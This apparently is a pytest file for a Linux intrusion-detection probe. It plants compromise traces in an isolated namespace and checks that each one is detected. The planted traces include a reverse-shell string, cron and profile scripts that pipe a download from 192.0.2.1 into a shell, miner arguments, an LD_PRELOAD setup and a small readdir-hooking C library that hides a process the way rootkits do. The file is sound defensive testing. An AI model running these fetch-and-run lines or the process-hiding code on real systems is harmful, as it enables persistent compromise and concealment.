"""The probe in a namespace in which real traces of an intrusion are planted, and in a clean twin."""

from __future__ import annotations

import os
import shutil
import subprocess
from datetime import date

import pytest

from wardround import checks
from wardround.collectors import linux
from wardround.collectors.linux import raw
from wardround.expectations import Document
from wardround.verdicts import Outcome


def missing() -> str:
    """Why this machine cannot show it, "" where it can."""
    if os.geteuid() != 0:
        return "needs root to make a mount namespace"
    for tool in ("unshare", "bash", "mount"):
        if not shutil.which(tool):
            return f"needs {tool}"
    done = subprocess.run(["unshare", "-mpf", "--mount-proc", "true"], capture_output=True, text=True)
    return f"unshare: {done.stderr.strip()}" if done.returncode else ""


REASON = missing()
pytestmark = pytest.mark.skipif(bool(REASON), reason=REASON)

#: Each plants one thing and leaves what must be found in it.
PLANTS = r"""
cp "$(command -v sleep)" /tmp/gone; /tmp/gone 300 & sleep 0.2; rm /tmp/gone
bash -c 'exec -a "[kworker/0:9]" sleep 300' &
bash -c 'exec -a "bash -i >& /dev/tcp/192.0.2.1/4444" sleep 300' &
bash -c 'exec -a "a -o stratum+tcp://192.0.2.1:3333 --password=Secret1 -p Secret2" sleep 300' &
cp "$(command -v sleep)" /dev/shm/stays; /dev/shm/stays 300 &
LD_PRELOAD=$library sleep 300 &
sleep 301 & covered=$!
echo "$library" > $work/preload; mount --bind $work/preload /etc/ld.so.preload
mkdir -p $work/cron.d $work/bin
printf '#!/bin/sh\ntrue\n' > $work/bin/job.sh; chmod 0777 $work/bin/job.sh
printf '* * * * * root %s/bin/job.sh --password Secret3\n' $work > $work/cron.d/planted
printf '* * * * * root curl -s http://192.0.2.1/x | sh\n' >> $work/cron.d/planted
chmod 0666 $work/cron.d/planted
mount --bind $work/cron.d /etc/cron.d
mkdir -p $work/units
printf '[Service]\nEnvironment=TOKEN=Secret4\nExecStart=/dev/shm/stays 300\n' > $work/units/planted.service
mount --bind $work/units /etc/systemd/system
mkdir -p $work/profile; echo 'wget -qO- http://192.0.2.1/x | bash' > $work/profile/x.sh
mount --bind $work/profile /etc/profile.d
echo data > /dev/planted.txt
python3 -c 'import socket,time; s=socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768); time.sleep(300)' &
for n in $(seq 200); do [ "$(wc -l < /proc/net/packet)" -lt 2 ] || break; sleep 0.1; done  # until python has begun
[ "$(wc -l < /proc/net/packet)" -ge 2 ]
mkdir -p $work/empty; mount --bind $work/empty /proc/$covered
"""

#: check -> what its sentence must name
FOUND = {
    "linux.intrusion.deleted_program": "/tmp/gone",
    "linux.intrusion.false_kernel_thread": "[kworker/0:9]",
    "linux.intrusion.reverse_shell": "/dev/tcp/192.0.2.1",
    "linux.intrusion.miner": "stratum+tcp",
    "linux.intrusion.temporary_program": "/dev/shm/stays",
    "linux.intrusion.preload_environment": "LD_PRELOAD",
    "linux.intrusion.preload_file": ".so",
    "linux.intrusion.hidden_process": " ?",
    "linux.intrusion.device_files": "/dev/planted.txt",
    "linux.intrusion.raw_sockets": "packet",
    "linux.cron.writable_program": "/bin/job.sh",
    "linux.cron.system_modes": "/etc/cron.d/planted",
    "linux.cron.fetches": "curl",
    "linux.autostart.odd_place": "planted.service",
    "linux.autostart.fetches": "/etc/profile.d/x.sh",
}


#: A pid, mount and network namespace with a /tmp, /dev and /etc of its own: nothing outside of it is touched.
ROOM = r"""
set -e
probe=$(cat "$PROBE")
library=$(ldconfig -p | awk '/libz[.]so|libm[.]so/ { print $NF; exit }')
mount -t tmpfs tmpfs /tmp
work=/tmp/work; mkdir -p $work/etc $work/dev $work/none
cp -a /etc/. $work/etc; mount --bind $work/etc /etc
mount -t tmpfs tmpfs $work/dev
for n in null zero random urandom tty full; do [ ! -e /dev/$n ] || cp -a /dev/$n $work/dev/$n; done
ln -s /proc/self/fd $work/dev/fd; mkdir $work/dev/shm
mount --move $work/dev /dev; mount -t tmpfs tmpfs /dev/shm
rm -rf /etc/cron.d /etc/ld.so.preload; mkdir -p /etc/cron.d /etc/systemd/system /etc/profile.d; touch /etc/ld.so.preload
"""
RUN = """
printf '%s\\n' "$probe" | sh -s -- --no-walk
"""
RUN_AS_NOBODY = RUN.replace("sh -s", "setpriv --reuid 65534 --regid 65534 --clear-groups sh -s")


def inside(tmp_path, script: str) -> bytes:
    probe = tmp_path / "probe.sh"
    probe.write_text(linux.script())
    room = ["unshare", "-mpfn", "--propagation", "private", "--mount-proc", "--kill-child"]
    done = subprocess.run(
        [*room, "bash", "-c", ROOM + script],
        capture_output=True,
        timeout=120,
        stdin=subprocess.DEVNULL,
        cwd="/",  # not below the /tmp that is covered there: a python3 that looks into its folder would not start
        env={**os.environ, "PROBE": str(probe)},
    )
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout


@pytest.fixture(scope="module")
def planted(tmp_path_factory):
    return inside(tmp_path_factory.mktemp("planted"), PLANTS + RUN)


@pytest.fixture(scope="module")
def clean(tmp_path_factory):
    return inside(tmp_path_factory.mktemp("clean"), RUN)


def judged(data: bytes) -> dict[str, checks.Verdict]:
    facts = linux.parse(raw.read(data, "here"))
    return checks.judge("linux", facts, checks.Given(Document().of("x"), date.today()), None)


@pytest.mark.parametrize("check_id", FOUND)
def test_what_was_planted_is_found_and_leads_to_its_line(planted, check_id):
    record = raw.read(planted, "here")
    verdict = judged(planted)[check_id]
    assert verdict.outcome is Outcome.FAIL, verdict
    assert any(FOUND[check_id] in name for name in verdict.args["found"]), verdict
    assert verdict.lines
    assert all(record.describe(line)[1] for line in verdict.lines)


@pytest.mark.parametrize("check_id", FOUND)
def test_a_clean_twin_is_silent(clean, check_id):
    assert judged(clean)[check_id].outcome is Outcome.PASS, judged(clean)[check_id]


def test_no_secret_leaves_the_host(planted):
    assert b"stratum+tcp" in planted
    assert b"job.sh --password ***" in planted
    for secret in (b"Secret1", b"Secret2", b"Secret3", b"Secret4"):
        assert secret not in planted


@pytest.mark.skipif(not shutil.which("setpriv"), reason="needs setpriv")
def test_a_plain_user_never_takes_the_unreadable_for_clean(tmp_path_factory):
    verdicts = judged(inside(tmp_path_factory.mktemp("nobody"), PLANTS + RUN_AS_NOBODY))
    wrong = {i: verdicts[i] for i in FOUND if verdicts[i].outcome not in (Outcome.FAIL, Outcome.UNKNOWN)}
    assert not wrong
    assert verdicts["linux.intrusion.reverse_shell"].outcome is Outcome.FAIL  # command lines are for everyone to read


@pytest.mark.skipif(not shutil.which("setpriv"), reason="needs setpriv")
def test_what_a_plain_user_may_not_look_up_is_denied_not_absent(tmp_path_factory):
    plant = """
    mkdir -m 700 /tmp/secret; touch /tmp/secret/run; chmod 777 /tmp/secret/run
    printf '[Service]\\nExecStart=/tmp/secret/run\\n' > /etc/systemd/system/x.service
    printf 'server { root /tmp/secret/site; }\\n' > /tmp/n; mkdir -p /etc/nginx; cp /tmp/n /etc/nginx/nginx.conf
    """
    facts = linux.parse(raw.read(inside(tmp_path_factory.mktemp("denied"), plant + RUN_AS_NOBODY), "here"))
    assert [g.detail for g in facts.places.named("/tmp/secret/run").gaps] == ["/tmp/secret/run"]
    assert not facts.places.under("/tmp/secret/site").complete


#: A library that leaves one process out when /proc is listed, as user-space rootkits do.
HIDER = r"""
cat > $work/hide.c <<'END'
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
struct dirent *readdir(DIR *d) {
  struct dirent *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir");
  struct dirent *e;
  do e = real(d); while (e && !strcmp(e->d_name, HIDDEN));
  return e;
}
END
sleep 302 & hidden=$!
gcc -shared -fPIC -DHIDDEN="\"$hidden\"" -o $work/hide.so $work/hide.c
export LD_PRELOAD=$work/hide.so
"""


@pytest.mark.skipif(not shutil.which("gcc"), reason="needs gcc to build the hiding library")
@pytest.mark.parametrize("groups", ["", "mount -t tmpfs tmpfs /sys/fs/cgroup\n"], ids=["groups", "no groups"])
def test_a_process_hidden_by_a_library_is_found(tmp_path_factory, groups):
    verdict = judged(inside(tmp_path_factory.mktemp("hidden"), groups + HIDER + RUN))["linux.intrusion.hidden_process"]
    assert verdict.outcome is Outcome.FAIL, verdict
    assert verdict.args["found"][0].endswith(" sleep")


#: A real Redis that lets everybody in, run as root.
REDIS = r"""
rm -rf /etc/redis
printf 'bind 0.0.0.0\nprotected-mode no\nport 6379\n# requirepass no\n%s\n' "$extra" > /etc/redis.conf
redis-server /etc/redis.conf --dir /tmp --save "" >/dev/null & sleep 1
"""


@pytest.mark.skipif(not shutil.which("redis-server"), reason="needs redis-server")
@pytest.mark.parametrize(("extra", "open_"), [("", True), ("requirepass Secret5", False)])
def test_a_real_redis_without_a_password(tmp_path_factory, extra, open_):
    data = inside(tmp_path_factory.mktemp("redis"), f"extra='{extra}'\n" + REDIS + RUN)
    verdicts = judged(data)
    assert verdicts["linux.databases.root"].outcome is Outcome.FAIL
    assert verdicts["linux.databases.exposed"].args["found"][0].startswith("redis-")
    wanted = Outcome.FAIL if open_ else Outcome.PASS
    assert verdicts["linux.databases.redis_password"].outcome is wanted
    assert b"Secret5" not in data
